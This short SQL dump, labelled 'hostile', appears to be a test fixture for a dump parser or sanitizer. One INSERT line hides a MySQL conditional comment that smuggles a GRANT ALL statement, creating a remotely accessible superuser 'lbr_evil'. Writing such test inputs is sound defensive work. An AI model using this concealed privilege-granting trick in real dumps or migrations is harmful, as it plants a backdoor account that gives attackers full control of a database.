-- hostile: cond_inside_insert
CREATE TABLE `t` (`a` int, `b` varchar(50));
INSERT INTO `t` VALUES (1,'ok');
INSERT INTO `t` VALUES (3,'x') /*!50000 ; GRANT ALL ON *.* TO 'lbr_evil'@'%' IDENTIFIED BY 'x' */;
INSERT INTO `t` VALUES (2,'after');
